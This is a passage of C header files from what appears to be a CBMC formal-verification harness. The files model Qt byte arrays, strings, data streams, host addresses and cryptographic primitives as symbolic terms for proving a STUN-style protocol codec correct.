   so toLatin1(fromUtf8(r)) == r for it; fromBase64(toBase64(b)) == b; fromHex(toHex(b)) == b; empty <-> empty */
qbytes __CPROVER_uninterpreted_latin1_enc(qstr s);
qbytes __CPROVER_uninterpreted_b64_dec_lenient(qbytes b);
qbytes __CPROVER_uninterpreted_hex_enc(qbytes b);
qbytes __CPROVER_uninterpreted_hex_dec(qbytes b);
static inline qbytes qstr_toLatin1(qstr s) { if (s == 0) return 0; return __CPROVER_uninterpreted_latin1_enc(s); }
static inline qbytes qbytes_fromBase64(qbytes b) { if (b == 0) return 0; return __CPROVER_uninterpreted_b64_dec_lenient(b); }
static inline qbytes qbytes_fromHex(qbytes b) { if (b == 0) return 0; return __CPROVER_uninterpreted_hex_dec(b); }
static inline qbytes qbytes_toHex(qbytes b) { if (b == 0) return 0; qbytes r = __CPROVER_uninterpreted_hex_enc(b);
  __CPROVER_assume(r != 0 && __CPROVER_uninterpreted_hex_dec(r) == b && __CPROVER_uninterpreted_utf8_dec(r) != 0
                   && __CPROVER_uninterpreted_latin1_enc(__CPROVER_uninterpreted_utf8_dec(r)) == r);
  return r; }
/* toBase64 as above, additionally stating the Latin-1 / lenient-decoder facts about its (ASCII) result */
static inline qbytes qbytes_toBase64_l1(qbytes b) { qbytes r = qbytes_toBase64(b); if (r == 0) return 0;
  __CPROVER_assume(__CPROVER_uninterpreted_latin1_enc(__CPROVER_uninterpreted_utf8_dec(r)) == r && __CPROVER_uninterpreted_b64_dec_lenient(r) == b);
  return r; }

/* ---- date-time (instants) */
enum { Qt_ISODate = 1, Qt_ISODateWithMs = 9 };
qstr __CPROVER_uninterpreted_dt_str(qdt d, int fmt);
qdt __CPROVER_uninterpreted_dt_parse(qstr s, int fmt);
bool __CPROVER_uninterpreted_dt_has_msec(qdt d);
static inline qdt qdt_toUTC(qdt d) { return d; }
static inline int qdt_msec(qdt d) { if (d == 0) return 0; return __CPROVER_uninterpreted_dt_has_msec(d) ? 1 : 0; }   /* only "!= 0" is observable */
static inline qstr qdt_toString(qdt d, int fmt) { if (d == 0) return 0; qstr r = __CPROVER_uninterpreted_dt_str(d, fmt);
  __CPROVER_assume(r != 0 && (fmt != Qt_ISODateWithMs || __CPROVER_uninterpreted_dt_parse(r, Qt_ISODate) == d)
                   && (fmt != Qt_ISODate || __CPROVER_uninterpreted_dt_has_msec(d) || __CPROVER_uninterpreted_dt_parse(r, Qt_ISODate) == d));
  return r; }
static inline qdt QDateTime_fromString(qstr s, int fmt) { if (s == 0) return 0; return __CPROVER_uninterpreted_dt_parse(s, fmt); }

/* ---- uuid */
enum { QUuid_WithBraces = 0, QUuid_WithoutBraces = 1, QUuid_Id128 = 3 };
qstr __CPROVER_uninterpreted_uuid_str(quuid u, int mode);
quuid __CPROVER_uninterpreted_uuid_parse(qstr s);
static inline qstr quuid_toString(quuid u, int mode) { qstr r = __CPROVER_uninterpreted_uuid_str(u, mode);
  __CPROVER_assume(r != 0 && (mode == QUuid_Id128 || __CPROVER_uninterpreted_uuid_parse(r) == u)); return r; }
static inline quuid QUuid_fromString(qstr s) { if (s == 0) return 0; return __CPROVER_uninterpreted_uuid_parse(s); }
#endif
