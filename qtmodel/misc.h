/* qtmodel/misc.h -- opaque QString, QStringList (diagnostics only), QSet<quint16>, QHostAddress as tagged value
 * A-UTF8      QString::fromUtf8 yields some string (opaque id); A-QSET insert is set-union with a singleton. */
#ifndef QTMODEL_MISC_H
#define QTMODEL_MISC_H
#include "base.h"
typedef struct QString { int id; } QString;
static inline void QString_assign(QString *d, const QString *s) { *d = *s; }
typedef struct QStringList { int n; } QStringList;
/* QSet<quint16>: two 64-bit masks, attribute numbers 0..63 and 0x8000..0x803f (all STUN attributes the codec inserts) */
typedef struct QSetU16 { uint64_t lo; uint64_t hi; } QSetU16;
static inline void QSetU16_insert(QSetU16 *s, quint16 x) { if (x < 0x8000) { MODEL_LIMIT(x < 64, "QSet<quint16> element outside 0..63"); s->lo |= (1ull << x); } else { MODEL_LIMIT(x < 0x8040, "QSet<quint16> element outside 0x8000..0x803f"); s->hi |= (1ull << (x - 0x8000)); } }
static inline bool QSetU16_contains(const QSetU16 *s, quint16 x) { if (x < 0x8000) { MODEL_LIMIT(x < 64, "QSet<quint16> element outside 0..63"); return (s->lo >> x) & 1; } MODEL_LIMIT(x < 0x8040, "QSet<quint16> element outside 0x8000..0x803f"); return (s->hi >> (x - 0x8000)) & 1; }
typedef struct Q_IPV6ADDR { quint8 c[16]; } Q_IPV6ADDR;
/* QHostAddress: protocol tag (QAbstractSocket::NetworkLayerProtocol: IPv4 = 0, IPv6 = 1, Unknown = -1) + value */
typedef struct QHostAddress { int proto; quint32 v4; Q_IPV6ADDR v6; } QHostAddress;
static inline void QHostAddress_ctor_v4(QHostAddress *h, quint32 a) { h->proto = 0; h->v4 = a; memset(&h->v6, 0, sizeof h->v6); }
static inline void QHostAddress_ctor_v6(QHostAddress *h, const Q_IPV6ADDR *a) { h->proto = 1; h->v4 = 0; h->v6 = *a; }
static inline void QHostAddress_assign(QHostAddress *d, const QHostAddress *s) { *d = *s; }
#endif
