/* qtmodel/terms.h -- term algebra for protocol byte strings (DESIGN 5.6) : ASSUMED contracts
 *
 * A QByteArray / QString value that is only concatenated, hashed, HMAC-ed, XOR-ed, base64-ed or hex-ed is a SEQUENCE of at
 * most TERM_L atoms (struct BA / struct QS, normal form: a[i] == 0 for i >= n).  An atom is
 *     1..256          the concrete byte / character (value + 1), so literals are sequences of their characters and two
 *                     adjacent literals are the same value as the merged literal;
 *     anything else   an opaque chunk: some NON-EMPTY byte string about which nothing is known but its identity.
 * The result of H, HMAC, PBKDF2 (Hi), base64, hex, XOR, toUtf8 is ONE opaque atom given by an uninterpreted function of the
 * operands (operands that are sequences go in through their hash-consed id t_id(seq)).  Uninterpreted functions satisfy
 * congruence only: equal operands give equal results, and nothing makes different operands give equal results -- so a proof
 * of "output == the RFC's term" cannot be completed when the code keys a MAC with the wrong key, swaps operands, drops a
 * field, ...  (Dolev-Yao reading: the constructors are free).
 *
 * A-CRYPTO    QCryptographicHash::hash, QMessageAuthenticationCode (hash / addData / result), QPasswordDigestor::deriveKeyPbkdf2
 *             compute H, HMAC, Hi of RFC 2104 / RFC 8018 for the given algorithm; digests of one algorithm have one length.
 * A-B64/HEX   toBase64 / toHex / fromBase64 are functions of the bytes; the encoding of the empty string is empty.
 * A-UTF8-HOM  QString::toUtf8 is a homomorphism: utf8(a ++ b) = utf8(a) ++ utf8(b), utf8 of an ASCII character is that byte
 *             (true for strings without unpaired surrogates).
 * A-SEQ       equality of values is equality of the atom sequences (an opaque chunk is not split or merged). */
#ifndef QTMODEL_TERMS_H
#define QTMODEL_TERMS_H
#include "base.h"
#ifndef TERM_L
#define TERM_L 20
#endif
typedef struct BA { int n; int a[TERM_L]; } BA;      /* QByteArray */
typedef struct QS { int n; int a[TERM_L]; } QS;      /* QString    */
typedef struct OptBA { bool has; BA v; } OptBA;      /* std::optional<QByteArray> */
#define TERM_BYTE(c) (((int)(unsigned char)(c)) + 1)

/* ---- sequences (pure, by value: usable in contracts) */
static inline BA ba_empty(void) { BA r; r.n = 0; for (int i = 0; i < TERM_L; i++) r.a[i] = 0; return r; }
static inline BA ba_atom(int x) { BA r = ba_empty(); r.n = 1; r.a[0] = x; return r; }
static inline bool ba_wf(BA x) { if (x.n < 0 || x.n > TERM_L) return false; for (int i = 0; i < TERM_L; i++) if (i >= x.n && x.a[i] != 0) return false; return true; }
static inline BA ba_cat(BA x, BA y) {
  MODEL_LIMIT(x.n >= 0 && y.n >= 0 && x.n <= TERM_L && y.n <= TERM_L - x.n, "byte-string term longer than TERM_L atoms");
  BA r; r.n = x.n + y.n;
  for (int i = 0; i < TERM_L; i++) r.a[i] = i < x.n ? x.a[i] : (i - x.n < y.n ? y.a[i - x.n] : 0);
  return r;
}
/* equality of normal forms: every slot is compared, so a value equal to a well-formed one is well-formed */
static inline bool ba_eq(BA x, BA y) { if (x.n != y.n) return false; for (int i = 0; i < TERM_L; i++) if (x.a[i] != y.a[i]) return false; return true; }
static inline BA ba_cat3(BA a, BA b, BA c) { return ba_cat(ba_cat(a, b), c); }
static inline BA ba_cat4(BA a, BA b, BA c, BA d) { return ba_cat(ba_cat(ba_cat(a, b), c), d); }
static inline BA ba_cat5(BA a, BA b, BA c, BA d, BA e) { return ba_cat(ba_cat4(a, b, c, d), e); }
static inline BA ba_cat6(BA a, BA b, BA c, BA d, BA e, BA f) { return ba_cat(ba_cat5(a, b, c, d, e), f); }
static inline BA ba_byte(char c) { return ba_atom(TERM_BYTE(c)); }
/* literal of up to 16 characters given as a C string (specifications: BA_LIT("n,,")) */
static inline BA ba_lit(const char *s, int len) { BA r = ba_empty(); MODEL_LIMIT(len <= TERM_L, "literal longer than TERM_L"); for (int i = 0; i < TERM_L; i++) if (i < len) r.a[i] = TERM_BYTE(s[i]); r.n = len; return r; }
#define BA_LIT(s) ba_lit((s), (int)sizeof(s) - 1)
static inline BA qs_as_ba(QS x) { BA r; r.n = x.n; for (int i = 0; i < TERM_L; i++) r.a[i] = x.a[i]; return r; }
static inline QS ba_as_qs(BA x) { QS r; r.n = x.n; for (int i = 0; i < TERM_L; i++) r.a[i] = x.a[i]; return r; }

/* an input about which nothing is known: the empty value or one atom; for a QString one OPAQUE chunk (a literal character is a
   special case of a chunk, and non-ASCII literal characters are not represented by the UTF-8 model) */
static inline bool ba_opaque(BA x) { return ba_wf(x) && x.n <= 1; }
static inline bool qs_opaque(QS x) { return ba_wf(qs_as_ba(x)) && x.n <= 1 && (x.n == 0 || x.a[0] > 256); }

/* ---- free constructors */
int __CPROVER_uninterpreted_t_id(BA x);                          /* hash-consing: the identity of a non-empty sequence */
int __CPROVER_uninterpreted_t_hmac(int alg, int key, int msg);
int __CPROVER_uninterpreted_t_hash(int alg, int data);
int __CPROVER_uninterpreted_t_pbkdf2(int alg, int pw, int salt, int iterations, unsigned long long dklen);
int __CPROVER_uninterpreted_t_b64(int x);
int __CPROVER_uninterpreted_t_b64dec(int x);
bool __CPROVER_uninterpreted_t_b64dec_empty(int x);             /* base64 text that decodes to nothing (e.g. "=") */
int __CPROVER_uninterpreted_t_hex(int x);
int __CPROVER_uninterpreted_t_xor(int x, int y);
int __CPROVER_uninterpreted_t_toInt(int x);                     /* the integer a decimal text denotes (meaningful when t_toInt_ok) */
bool __CPROVER_uninterpreted_t_toInt_ok(int x);                  /* the bytes are a decimal integer in int range (QByteArray::toInt's ok flag) */
int __CPROVER_uninterpreted_t_hashlen(int alg);
int __CPROVER_uninterpreted_t_alen(int atom);                    /* byte length of an opaque chunk */
bool __CPROVER_uninterpreted_t_startsWith(int a, int b);
/* identity of a value: 0 for the empty string, the atom itself for a one-atom value, hash-consed otherwise
   (a cheaper encoding of the same free reading: nothing forces two different values to have different identities) */
static inline int ba_id(BA x) { return x.n == 0 ? 0 : x.n == 1 ? x.a[0] : __CPROVER_uninterpreted_t_id(x); }
/* the terms, as sequences (one opaque atom) -- used by the models below AND by the specifications */
static inline BA T_HMAC(int alg, BA key, BA msg) { return ba_atom(__CPROVER_uninterpreted_t_hmac(alg, ba_id(key), ba_id(msg))); }
static inline BA T_H(int alg, BA data) { return ba_atom(__CPROVER_uninterpreted_t_hash(alg, ba_id(data))); }
static inline BA T_Hi(int alg, BA pw, BA salt, int it, unsigned long long dklen) { return ba_atom(__CPROVER_uninterpreted_t_pbkdf2(alg, ba_id(pw), ba_id(salt), it, dklen)); }
static inline BA T_B64(BA x) { return x.n == 0 ? ba_empty() : ba_atom(__CPROVER_uninterpreted_t_b64(ba_id(x))); }
static inline BA T_B64DEC(BA x) { int i = ba_id(x); return (x.n == 0 || __CPROVER_uninterpreted_t_b64dec_empty(i)) ? ba_empty() : ba_atom(__CPROVER_uninterpreted_t_b64dec(i)); }
static inline BA T_HEX(BA x) { return x.n == 0 ? ba_empty() : ba_atom(__CPROVER_uninterpreted_t_hex(ba_id(x))); }
/* XOR is commutative: the operands are ordered by id before the constructor is applied */
static inline BA T_XOR(BA x, BA y) { int i = ba_id(x), j = ba_id(y); return ba_atom(i <= j ? __CPROVER_uninterpreted_t_xor(i, j) : __CPROVER_uninterpreted_t_xor(j, i)); }
/* QByteArray::toInt(bool *ok = nullptr, int base = 10): ok and the value are functions of the bytes; the empty string is not a number;
   a failed conversion returns 0 (Qt documentation) */
static inline bool T_TOINT_OK(BA x) { return x.n != 0 && __CPROVER_uninterpreted_t_toInt_ok(ba_id(x)); }
static inline int T_TOINT(BA x) { return T_TOINT_OK(x) ? __CPROVER_uninterpreted_t_toInt(ba_id(x)) : 0; }
static inline bool T_STARTSWITH(BA a, BA b) { if (b.n == 0 || ba_eq(a, b)) return true; if (a.n == 0) return false; return __CPROVER_uninterpreted_t_startsWith(ba_id(a), ba_id(b)); }
/* QByteArray::replace(char before, const char *after) on a value of at most one atom: a concrete byte is replaced or kept; an opaque
   chunk becomes the chunk "with every `before` replaced by `after`" (a function of the three; it may or may not differ from the chunk) */
int __CPROVER_uninterpreted_t_replace(int chunk, char before, int after);
static inline BA T_REPLACE(BA x, char before, BA after) {
  MODEL_LIMIT(x.n <= 1 && after.n >= 1, "replace() on a value of more than one atom, or with an empty replacement");
  if (x.n == 0) return x;
  if (x.a[0] >= 1 && x.a[0] <= 256) return x.a[0] == TERM_BYTE(before) ? after : x;
  return ba_atom(__CPROVER_uninterpreted_t_replace(x.a[0], before, ba_id(after)));
}
/* utf8 of a string (A-UTF8-HOM): character by character; an ASCII character is its own encoding, and an opaque chunk x of a
   QString and its UTF-8 encoding carry the same atom number (the two sorts never mix except through toUtf8, and UTF-8 is
   injective, so this is just a choice of names).  Non-ASCII literal characters are not represented. */
static inline BA T_UTF8(QS s) {
  for (int i = 0; i < TERM_L; i++) MODEL_LIMIT(!(s.a[i] > 128 && s.a[i] <= 256), "non-ASCII literal character in a QString term");
  return qs_as_ba(s);
}

/* ---- byte-level view of a term (QByteArray::size / at / operator[] const): a concrete atom is one byte; an opaque chunk x has
   t_alen(x) bytes (A-LEN: between 1 and 2^26) whose values are t_byte(x, offset).  Equal atoms have equal bytes (congruence).
   A-EXT (extensionality, instantiated by a unit for the pair of values a comparison is about): two chunks of equal length that
   agree on every byte are the same chunk -- t_diff(x, y) names an offset where they differ. */
char __CPROVER_uninterpreted_t_byte(int chunk, int offset);
int __CPROVER_uninterpreted_t_diff(int chunk1, int chunk2);
static inline int atom_len(int a) { if (a >= 1 && a <= 256) return 1; int l = __CPROVER_uninterpreted_t_alen(a); __CPROVER_assume(l >= 1 && l <= (1 << 26)); return l; }
static inline char atom_byte(int a, int off) { return (a >= 1 && a <= 256) ? (char)(unsigned char)(a - 1) : __CPROVER_uninterpreted_t_byte(a, off); }
/* (the byte-level view is kept for values of at most two atoms: each atom costs an uninterpreted-function application per use) */
static inline int ba_size(BA x) {
  MODEL_LIMIT(x.n <= 2, "size()/at() of a value of more than two atoms");
  return (x.n >= 1 ? atom_len(x.a[0]) : 0) + (x.n >= 2 ? atom_len(x.a[1]) : 0);
}
static inline bool ba_bytes_extensional(BA x, BA y) {
  if (x.n != 1 || y.n != 1 || x.a[0] == y.a[0]) return true;
  int lx = atom_len(x.a[0]), ly = atom_len(y.a[0]);
  if (lx != ly) return true;
  int d = __CPROVER_uninterpreted_t_diff(x.a[0], y.a[0]);
  return d >= 0 && d < lx && atom_byte(x.a[0], d) != atom_byte(y.a[0], d);
}
/* ---- QString::arg and fromUtf8.  fmt.arg(a) replaces the lowest-numbered place marker of fmt -- wherever it occurs, also inside text
   that an EARLIER arg() call substituted.  The lowering computes the substitution on the literal format; that result is the value only
   if no earlier substituted text contains a '%' (t_has_percent, unknown for an opaque chunk); otherwise the value is the opaque term
   t_arg(current string, argument).  QString::fromUtf8 is the inverse of toUtf8 on well-formed UTF-8 (same atom, see T_UTF8) and some
   other string (replacement characters) otherwise. */
bool __CPROVER_uninterpreted_t_has_percent(int chunk);
bool __CPROVER_uninterpreted_t_valid_utf8(int chunk);
int __CPROVER_uninterpreted_t_arg(int fmt, int arg);
int __CPROVER_uninterpreted_t_fromUtf8(int chunk);
static inline bool qs_has_percent(QS s) { bool r = false; for (int i = 0; i < TERM_L; i++) if (i < s.n && (s.a[i] == TERM_BYTE('%') || ((s.a[i] < 1 || s.a[i] > 256) && __CPROVER_uninterpreted_t_has_percent(s.a[i])))) r = true; return r; }
static inline QS T_ARG_OPAQUE(QS fmt, QS a) { int r = __CPROVER_uninterpreted_t_arg(ba_id(qs_as_ba(fmt)), ba_id(qs_as_ba(a))); __CPROVER_assume(r > 256); return ba_as_qs(ba_atom(r)); }
static inline QS T_FROMUTF8(BA x) {
  QS r = ba_as_qs(x);
  for (int i = 0; i < TERM_L; i++) if (i < x.n && !(x.a[i] >= 1 && x.a[i] <= 128)) {
    /* a lone byte >= 0x80 is not UTF-8; an opaque chunk may or may not be */
    if (!(x.a[i] > 256 && __CPROVER_uninterpreted_t_valid_utf8(x.a[i]))) { int f = __CPROVER_uninterpreted_t_fromUtf8(x.a[i]); __CPROVER_assume(f > 256); r.a[i] = f; }
  }
  return r;
}

/* ---- QByteArray / QString models (class types of the lowering: passed by address, returned through _ret) */
static inline void BA_ctor(BA *r) { *r = ba_empty(); }
static inline void BA_assign(BA *d, const BA *s) { *d = *s; }
static inline void BA_concat(BA *r, const BA *x, const BA *y) { *r = ba_cat(*x, *y); }
static inline void BA_concat_char(BA *r, const BA *x, char c) { *r = ba_cat(*x, ba_byte(c)); }
static inline void BA_char_concat(BA *r, char c, const BA *x) { *r = ba_cat(ba_byte(c), *x); }
static inline bool BA_isEmpty(const BA *x) { return x->n == 0; }
static inline int BA_size(const BA *x) { return ba_size(*x); }
/* at(i) / operator[](i) const: an index outside the array is undefined behaviour (Q_ASSERT only) */
static inline char BA_at(const BA *x, int i) {
  MODEL_LIMIT(x->n <= 2, "size()/at() of a value of more than two atoms");
  int l0 = x->n >= 1 ? atom_len(x->a[0]) : 0, l1 = x->n >= 2 ? atom_len(x->a[1]) : 0;
  __CPROVER_assert(i >= 0 && i < l0 + l1, "[safety.byte_index_within_size]");
  return i < l0 ? atom_byte(x->a[0], i) : atom_byte(x->a[1], i - l0);
}
static inline bool BA_eq(const BA *x, const BA *y) { return ba_eq(*x, *y); }
static inline bool BA_ne(const BA *x, const BA *y) { return !ba_eq(*x, *y); }
static inline bool BA_startsWith(const BA *x, const BA *y) { return T_STARTSWITH(*x, *y); }
static inline void BA_toBase64(BA *r, const BA *x) { *r = T_B64(*x); }
static inline void BA_fromBase64(BA *r, const BA *x) { *r = T_B64DEC(*x); }
static inline void BA_toHex(BA *r, const BA *x) { *r = T_HEX(*x); }
static inline int BA_toInt(const BA *x) { return T_TOINT(*x); }
static inline int BA_toInt_ok(const BA *x, bool *ok) { if (ok) *ok = T_TOINT_OK(*x); return T_TOINT(*x); }
static inline int BA_toInt_ok_base(const BA *x, bool *ok, int base) { MODEL_LIMIT(base == 10, "QByteArray::toInt with a base other than 10"); return BA_toInt_ok(x, ok); }
static inline void BA_replace_char(BA *x, char before, const BA *after) { *x = T_REPLACE(*x, before, *after); }
static inline void QS_ctor(QS *r) { *r = ba_as_qs(ba_empty()); }
static inline void QS_assign(QS *d, const QS *s) { *d = *s; }
static inline bool QS_isEmpty(const QS *x) { return x->n == 0; }
static inline void QS_toUtf8(BA *r, const QS *s) { *r = T_UTF8(*s); }
static inline void QS_fromUtf8(QS *r, const BA *x) { *r = T_FROMUTF8(*x); }
static inline bool QS_has_percent(const QS *s) { return qs_has_percent(*s); }
static inline void QS_arg_opaque(QS *r, const QS *fmt, const QS *a) { *r = T_ARG_OPAQUE(*fmt, *a); }
static inline void QS_concat(QS *r, const QS *x, const QS *y) { *r = ba_as_qs(ba_cat(qs_as_ba(*x), qs_as_ba(*y))); }
static inline void QS_char_concat(QS *r, quint16 c, const QS *y) { MODEL_LIMIT(c < 128, "non-ASCII literal character"); *r = ba_as_qs(ba_cat(ba_atom((int)c + 1), qs_as_ba(*y))); }
static inline void QS_concat_char(QS *r, const QS *x, quint16 c) { MODEL_LIMIT(c < 128, "non-ASCII literal character"); *r = ba_as_qs(ba_cat(qs_as_ba(*x), ba_atom((int)c + 1))); }
/* QCryptographicHash::hashLength (Qt 5.15 enum values: Md4 0, Md5 1, Sha1 2, Sha224 3, Sha256 4, Sha384 5, Sha512 6, Keccak_224..512 7..10,
   RealSha3_224..512 11..14); output length of the hash in bytes */
static inline int QCryptographicHash_hashLength(int alg) {
  switch (alg) { case 0: case 1: return 16; case 2: return 20; case 3: case 7: case 11: return 28; case 4: case 8: case 12: return 32; case 5: case 9: case 13: return 48; case 6: case 10: case 14: return 64; }
  return 0;
}
/* digests of one algorithm have one length (needed where the code XORs two digests byte by byte) */
static inline void T_digest_len(BA *d, int alg) { __CPROVER_assume(d->a[0] > 256 && __CPROVER_uninterpreted_t_alen(d->a[0]) == QCryptographicHash_hashLength(alg)); }
static inline void QCryptographicHash_hash(BA *r, const BA *data, int alg) { *r = T_H(alg, *data); T_digest_len(r, alg); }
static inline void QMessageAuthenticationCode_hash(BA *r, const BA *msg, const BA *key, int alg) { *r = T_HMAC(alg, *key, *msg); T_digest_len(r, alg); }
static inline void QPasswordDigestor_deriveKeyPbkdf2(BA *r, int alg, const BA *pw, const BA *salt, int iterations, unsigned long long dklen) { *r = T_Hi(alg, *pw, *salt, iterations, dklen); }
/* QMessageAuthenticationCode object: algorithm, key, data added so far */
typedef struct QMac { int alg; BA key; BA data; } QMac;
static inline void QMac_ctor(QMac *m, int alg, const BA *key) { m->alg = alg; m->key = *key; m->data = ba_empty(); }
static inline void QMac_addData(QMac *m, const BA *d) { m->data = ba_cat(m->data, *d); }
static inline void QMac_result(BA *r, const QMac *m) { *r = T_HMAC(m->alg, m->key, m->data); T_digest_len(r, m->alg); }
/* std::transform(x.cbegin(), x.cend(), y.cbegin(), x.begin(), std::bit_xor<char>()):  x[i] ^= y[i] for every i < size(x).
   Reading y beyond its end would be undefined behaviour: the operands must be known to have the same length. */
static inline void BA_xor_inplace(BA *x, const BA *y) {
  MODEL_LIMIT(x->n == 1 && y->n == 1, "byte-wise XOR of values that are not single chunks");
  __CPROVER_assert(__CPROVER_uninterpreted_t_alen(x->a[0]) == __CPROVER_uninterpreted_t_alen(y->a[0]), "[safety.xor_operands_have_equal_length]");
  *x = T_XOR(*x, *y);
}
#endif
