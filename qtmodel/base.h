/* qtmodel/base.h -- scalar typedefs and nondeterministic sources shared by all model files */
#ifndef QTMODEL_BASE_H
#define QTMODEL_BASE_H
#include <stdint.h>
#include <stddef.h>
#include <stdbool.h>
#include <string.h>
typedef uint8_t quint8; typedef uint16_t quint16; typedef uint32_t quint32; typedef uint64_t quint64;
typedef int8_t qint8; typedef int16_t qint16; typedef int32_t qint32; typedef int64_t qint64;
int nondet_int(void); unsigned nondet_uint(void); char nondet_char(void); bool nondet_bool(void); size_t nondet_size_t(void);
unsigned char nondet_uchar(void); unsigned short nondet_ushort(void); long nondet_long(void); unsigned long nondet_ulong(void);
#ifdef VERIF_NATIVE
#define __CPROVER_assert(c, msg) do { if (!(c)) { model_limit(msg); } } while (0)
#define __CPROVER_assume(c) do { if (!(c)) { model_limit("assume"); } } while (0)
void model_limit(const char *msg);
#endif
/* MODEL_LIMIT: a situation the model does not represent; failing it is a tool limit (exit 2), never a violation */
#define MODEL_LIMIT(c, msg) __CPROVER_assert(c, "MODEL-LIMIT: " msg)
#endif
