/* qtmodel/bytes.h -- ASSUMED contracts on QByteArray / QDataStream (Qt 5.15), slice model (DESIGN 5.9)
 *
 * A-QBYTEARRAY   QByteArray(n, 0) has size max(n,0) and is all zero; left(len) clamps to [0,size]; resize(n) keeps
 *                the first min(n,size) bytes (new bytes unspecified).
 * A-QDATASTREAM  big-endian; `>>` past the end yields 0 and consumes what was left (pos = size);
 *                readRawData / skipRawData are short at the end; the stream status does not influence later reads
 *                (checked against Qt 5.15.8 in the design phase and by the differential run of the thorough tier).
 *
 * A QByteArray value is a descriptor: size n; the first vlen bytes are bytes [off, off+vlen) of an immutable backing
 * store `src`; bytes >= vlen are zero; bytes 2 and 3 may have been overwritten ("patched": the STUN length field). */
#ifndef QTMODEL_BYTES_H
#define QTMODEL_BYTES_H
#include "base.h"
#define QBA_MAX 65556
typedef struct QByteArray { int n; const char *src; int off; int vlen; bool patched; char p2, p3; } QByteArray;
#define QBA_AT(b,i) ((i) < (b)->vlen ? (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (b)->src[(b)->off + (i)]) : (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (char)0))
static inline int  QByteArray_size(const QByteArray *b) { return b->n; }
static inline bool QByteArray_isEmpty(const QByteArray *b) { return b->n == 0; }
static inline void QByteArray_ctor(QByteArray *b) { b->n = 0; b->src = 0; b->off = 0; b->vlen = 0; b->patched = false; b->p2 = 0; b->p3 = 0; }
static inline void QByteArray_ctor_fill(QByteArray *b, int n, char ch) { MODEL_LIMIT(ch == 0, "QByteArray(n, ch) with ch != 0"); b->n = n < 0 ? 0 : n; b->src = 0; b->off = 0; b->vlen = 0; b->patched = false; b->p2 = 0; b->p3 = 0; }
/* resize: only ever followed by readRawData(x.data(), x.size()) in the verified code, which redefines the content;
   bytes beyond the old size are unspecified in Qt, here they read as zero until overwritten (content is never inspected before). */
static inline void QByteArray_resize(QByteArray *b, int n) { b->n = n < 0 ? 0 : n; if (b->vlen > b->n) b->vlen = b->n; }
static inline void QByteArray_left(QByteArray *r, const QByteArray *b, int len) { *r = *b; if (len < 0) len = 0; if (len < r->n) r->n = len; if (r->vlen > r->n) r->vlen = r->n; if (r->n < 4) r->patched = false; }

typedef struct QDataStream { const QByteArray *ba; QByteArray *wba; int pos; } QDataStream;
static inline void QDataStream_ctor_ro(QDataStream *s, const QByteArray *b) { s->ba = b; s->wba = 0; s->pos = 0; }
#define U8AT(s,i) ((quint32)(unsigned char)QBA_AT((s)->ba, (s)->pos + (i)))
static inline void QDataStream_rd_u8(QDataStream *s, quint8 *v)  { if (s->ba->n - s->pos >= 1) { *v = (quint8)U8AT(s,0); s->pos += 1; } else { *v = 0; s->pos = s->ba->n; } }
static inline void QDataStream_rd_u16(QDataStream *s, quint16 *v){ if (s->ba->n - s->pos >= 2) { *v = (quint16)((U8AT(s,0) << 8) | U8AT(s,1)); s->pos += 2; } else { *v = 0; s->pos = s->ba->n; } }
static inline void QDataStream_rd_u32(QDataStream *s, quint32 *v){ if (s->ba->n - s->pos >= 4) { *v = (U8AT(s,0) << 24) | (U8AT(s,1) << 16) | (U8AT(s,2) << 8) | U8AT(s,3); s->pos += 4; } else { *v = 0; s->pos = s->ba->n; } }
static inline int  QDataStream_skipRawData(QDataStream *s, int len) { if (len < 0) return -1; int a = s->ba->n - s->pos; int k = len < a ? len : a; s->pos += k; return k; }
/* readRawData(X.data(), X.size()) : X becomes a slice of the stream's store (short read at the end, rest of X keeps its zero fill) */
static inline int  QDataStream_readInto(QDataStream *s, QByteArray *x, int len) {
  MODEL_LIMIT(len == x->n, "readRawData(x.data(), n) with n != x.size()");
  MODEL_LIMIT(!s->ba->patched, "readRawData from a patched array");
  int a = s->ba->n - s->pos; int k = len < a ? len : a; int v = s->ba->vlen - s->pos; if (v < 0) v = 0; if (k < v) v = k;
  x->src = s->ba->src; x->off = s->ba->off + s->pos; x->vlen = v; x->patched = false; s->pos += k; return k; }
/* write stream on a QByteArray: the only write the slice model represents is a 16-bit big-endian store at offset 2 */
static inline void QDataStream_ctor_rw(QDataStream *s, QByteArray *b, int mode) { s->ba = b; s->wba = b; s->pos = 0; }
static inline bool QDataStream_device_seek(QDataStream *s, long pos) { MODEL_LIMIT(s->wba != 0 && pos >= 0 && pos <= s->wba->n, "seek outside the array"); s->pos = (int)pos; return true; }
static inline void QDataStream_wr_i16_patch(QDataStream *s, qint16 v) { MODEL_LIMIT(s->wba != 0 && s->pos == 2 && s->wba->n >= 4, "slice model: 16-bit store at offset 2 only");
  s->wba->patched = true; s->wba->p2 = (char)(unsigned char)(((quint16)v) >> 8); s->wba->p3 = (char)(unsigned char)(((quint16)v) & 0xff); s->pos += 2; }
#endif
