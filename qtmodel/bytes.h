/* qtmodel/bytes.h -- ASSUMED contracts on QByteArray / QDataStream (Qt 5.15), slice model (DESIGN 5.9)
 *
 * A-QBYTEARRAY   QByteArray(n, 0) has size max(n,0) and is all zero; left(len) clamps to [0,size]; resize(n) keeps
 *                the first min(n,size) bytes (new bytes unspecified).
 * A-QDATASTREAM  big-endian; `>>` past the end yields 0 and consumes what was left (pos = size);
 *                readRawData / skipRawData are short at the end; the stream status does not influence later reads
 *                (checked against Qt 5.15.8 in the design phase and by the differential run of the thorough tier).
 *
 * A QByteArray value is a descriptor: size n; the first vlen bytes are bytes [off, off+vlen) of an immutable backing
 * store `src`; bytes >= vlen are zero; bytes 2 and 3 may have been overwritten ("patched": the STUN length field). */
#ifndef QTMODEL_BYTES_H
#define QTMODEL_BYTES_H
#include "base.h"
#define QBA_MAX 65556
#ifdef QBA_WLOG
/* -DQBA_WLOG: an array that is only ever appended to through a write stream (the output buffer of an encoder) is a
   write log: its size, and the byte written at ONE arbitrary witness position g_w (DESIGN 5.2); bytes 2,3 may be patched. */
#define QBA_WLOG_FIELDS bool wlog; bool w_set; char w_val;
#define QBA_WLOG_INIT(b) ((b)->wlog = false, (b)->w_set = false, (b)->w_val = 0)
#else
#define QBA_WLOG_FIELDS
#define QBA_WLOG_INIT(b)
#endif
#ifndef QBA_OWNED
typedef struct QByteArray { int n; const char *src; int off; int vlen; bool patched; char p2, p3; QBA_WLOG_FIELDS } QByteArray;
